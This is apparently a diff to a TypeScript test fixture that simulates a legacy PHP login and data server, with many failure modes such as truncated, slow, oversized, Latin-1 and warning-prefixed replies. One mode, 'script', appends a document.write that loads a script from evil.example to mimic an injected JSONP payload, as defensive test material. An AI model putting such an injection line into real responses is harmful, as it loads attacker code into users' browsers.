@@ -1,4 +1,4 @@
-import { createServer } from 'node:http'
+import { createServer, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { text } from 'node:stream/consumers'
 
@@ -8,10 +8,56 @@ export interface LegacyServer {
   asked: { method: string; path: string; body: URLSearchParams; headers: NodeJS.Dict<string | string[]> }[]
   /** How it answers from now on. */
   speak(manner: Manner): void
+  /** Its rows by path, as it has them from now on. */
+  rows: Record<string, object[]>
+  /** Tokens of before hold no more. */
+  forgetTokens(): void
   close(): Promise<void>
 }
 
-type Manner = 'jsonp' | 'ajax' | 'page' | 'hang-up'
+type Manner =
+  | 'jsonp'
+  | 'ajax'
+  | 'page'
+  | 'hang-up'
+  | 'latin-1'
+  | 'half'
+  | 'silent'
+  | 'slow'
+  | 'huge'
+  | 'script'
+  | 'warned'
+  | 'warned-500'
+  | 'no-pages'
+
+const warning = '<br />\n<b>Warning</b>:  mysql_query(): gone away in <b>/var/www/app.php</b> on line <b>12</b><br />\n'
+const hugeMib = 9
+
+/** How each says a value; those that say none end the answer by themselves. */
+const manners: Record<Manner, (response: ServerResponse, json: string) => void> = {
+  ajax: (response, json) => void response.end(json),
+  jsonp: (response, json) => void response.end(`/**/ cb(${json});`),
+  page: (response) => void response.end('<html><form action="/users/login"></form></html>'),
+  'hang-up': (response) => void response.socket?.destroy(),
+  'latin-1': (response, json) => {
+    response.setHeader('content-type', 'application/json; charset=ISO-8859-1')
+    response.end(Buffer.from(json, 'latin1'))
+  },
+  half: (response, json) => void response.end(json.slice(0, json.length / 2)),
+  silent: () => {},
+  slow: (response, json) => {
+    response.write(json.slice(0, 5))
+    setTimeout(() => response.end(json.slice(5)), 150)
+  },
+  huge: (response) => void response.end(`{"data":"${'a'.repeat(hugeMib * 1024 * 1024)}"}`),
+  script: (response, json) => void response.end(`cb(${json}); document.write("<script src=//evil.example></script>")`),
+  warned: (response, json) => void response.end(warning + json),
+  'warned-500': (response, json) => {
+    response.statusCode = 500
+    response.end(warning + json)
+  },
+  'no-pages': (response, json) => void response.end(json)
+}
 
 /** A PHP apps server that knows these users, by name: the password, and what its data say of them. */
 export async function startLegacyServer(
@@ -19,25 +65,40 @@ export async function startLegacyServer(
   manner: Manner = 'jsonp'
 ): Promise<LegacyServer> {
   const asked: LegacyServer['asked'] = []
+  const rows: LegacyServer['rows'] = {}
   let speaks = manner
+  let forgotten = 0
+  const answerOf = (path: string, body: URLSearchParams) => {
+    if (path === '/users/login') {
+      const user = users[body.get('username') ?? '']
+      const isRight = user !== undefined && user.password === body.get('password')
+      return isRight
+        ? { success: true, data: renewed(user.data, forgotten) }
+        : { success: false, error: 'Login inválido' }
+    }
+    const isKnown = Object.values(users).some(({ data }) => tokenIn(renewed(data, forgotten)) === body.get('token'))
+    if (!isKnown) return { success: false, error: 'Token expirado' }
+    return pageOf(rows[path] ?? [], body, speaks === 'no-pages')
+  }
   const server = createServer(async (request, response) => {
     const body = new URLSearchParams(await text(request))
-    asked.push({ method: request.method ?? '', path: request.url ?? '', body, headers: request.headers })
-    if (speaks === 'hang-up') return void request.socket.destroy()
-    if (speaks === 'page') return void response.end('<html><form action="/users/login"></form></html>')
-    const user = users[body.get('username') ?? '']
-    const isRight = user !== undefined && user.password === body.get('password')
-    const answer = isRight ? { success: true, data: user.data } : { success: false, error: 'Login inválido' }
-    response.writeHead(200, { 'content-type': 'text/javascript' })
-    response.end(speaks === 'jsonp' ? `/**/ cb(${JSON.stringify(answer)});` : JSON.stringify(answer))
+    const path = request.url ?? ''
+    asked.push({ method: request.method ?? '', path, body, headers: request.headers })
+    response.setHeader('content-type', 'text/javascript')
+    // Whoever is in trouble still lets people in, but for what says nothing at all.
+    const isLogin = path === '/users/login' && !['jsonp', 'page', 'hang-up'].includes(speaks)
+    manners[isLogin ? 'ajax' : speaks](response, JSON.stringify(answerOf(path, body)))
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   const { port } = server.address() as AddressInfo
   return {
     url: `http://127.0.0.1:${port}`,
-    asked,
+    ...{ asked, rows },
     speak(next) {
       speaks = next
+    },
+    forgetTokens() {
+      forgotten += 1
     },
     close: () =>
       new Promise((resolve) => {
@@ -45,4 +106,15 @@ export async function startLegacyServer(
         server.closeAllConnections()
       })
   }
+}
+
+const tokenIn = (data: object) => ('token' in data ? String(data.token) : '')
+
+const renewed = (data: object, times: number): object =>
+  times > 0 && 'token' in data ? { ...data, token: `${data.token}-${times}` } : data
+
+function pageOf(all: object[], body: URLSearchParams, isWhole: boolean) {
+  const [page, limit] = [Number(body.get('page')), Number(body.get('limit'))]
+  if (!page || isWhole) return { success: true, data: all }
+  return { success: true, data: all.slice((page - 1) * limit, page * limit), paging: { count: all.length } }
 }
